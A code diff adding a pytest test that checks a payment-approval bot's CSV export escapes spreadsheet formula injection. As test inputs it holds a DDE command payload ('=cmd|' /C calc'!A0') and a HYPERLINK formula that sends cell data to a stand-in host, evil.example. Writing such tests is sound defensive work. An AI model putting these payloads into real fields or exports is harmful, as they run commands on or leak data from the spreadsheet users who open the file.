@@ -13,11 +13,14 @@ import pytest
 
 from bot.blocks.export import parse_month
 from bot.dev import slack_payloads as payloads
+from ledger.crm.generic import sign_generic
+from ledger.receivables import ReceivableRules
 from tests.harness import CFO, MANAGER, OUTSIDER, REQUESTER, Aprova, running_aprova
 
 pytestmark = pytest.mark.anyio
 
 APPROVE, HISTORY = "payment-approve", "request-history"
+WEBHOOK_SECRET = "whsec-export"
 
 
 def history_lines(view: dict[str, Any]) -> list[str]:
@@ -148,6 +151,47 @@ async def test_monthly_export_is_two_spreadsheet_ready_csv_files(session_factory
             f"📗 Lançado no Conta Azul: id `{result.request.contaazul_id}` (tentativa 1)",
         ]
         assert [e[2] for e in first] == ["Ana Souza", "Bruno Lima", "Aprova"]
+
+
+async def test_export_writes_formula_like_text_as_text_and_amounts_as_numbers(session_factory, clock):
+    """CSV injection: whatever people or a CRM typed is shown by the spreadsheet, never evaluated."""
+    rules = ReceivableRules(category="+Vendas", cost_center="@Comercial")
+    async with running_aprova(
+        session_factory, clock, contaazul=True, receivables=rules, webhook_secrets=(WEBHOOK_SECRET,)
+    ) as aprova:
+        aprova.slack.add_user("U0EVIL", real_name="\t=cmd|' /C calc'!A0", locale="pt-BR")
+        await aprova.file_request(
+            user_id="U0EVIL",
+            vendor_name='=HYPERLINK("https://evil.example/?x="&A1;"NF")',
+            category="+Matéria-Prima",
+            cost_center="-Produção",
+        )
+        deal = {"deal_id": "D-1", "value": "99.90", "won_at": "2026-11-24", "customer": {"name": "=2+3 Eventos"}}
+        body = json.dumps(deal).encode()
+        timestamp = int(clock.now().timestamp())
+        signature = sign_generic(WEBHOOK_SECRET, timestamp, body)
+        signed = {"X-Aprova-Timestamp": str(timestamp), "X-Aprova-Signature": signature}
+        assert (await aprova.http.post("/crm/generic", content=body, headers=signed)).status_code == 202
+        await aprova.settle()
+
+        await export(aprova, CFO, "export 11/2026")
+        files = {u.filename: u for u in aprova.slack.uploads.values()}
+        header, *rows = read_csv(files["aprova-2026-11-pedidos.csv"].content or b"")
+        payable, receivable = (dict(zip(header, row, strict=True)) for row in rows)
+        assert (payable["Solicitante"], payable["Fornecedor/Cliente"]) == (
+            "'\t=cmd|' /C calc'!A0",
+            '\'=HYPERLINK("https://evil.example/?x="&A1;"NF")',
+        )
+        assert (payable["Categoria"], payable["Centro de custo"]) == ("'+Matéria-Prima", "'-Produção")
+        assert (payable["Valor (R$)"], payable["Parcelas"]) == ("1234,56", "1")  # numbers stay numbers
+        assert (receivable["Fornecedor/Cliente"], receivable["Categoria"], receivable["Centro de custo"]) == (
+            "'=2+3 Eventos",
+            "'+Vendas",
+            "'@Comercial",
+        )
+        assert receivable["Valor (R$)"] == "99,90"
+        header, *events = read_csv(files["aprova-2026-11-historico.csv"].content or b"")
+        assert [e[2] for e in events if e[0] == "PAG-2026-000001"] == ["'\t=cmd|' /C calc'!A0"]
 
 
 @pytest.mark.parametrize(
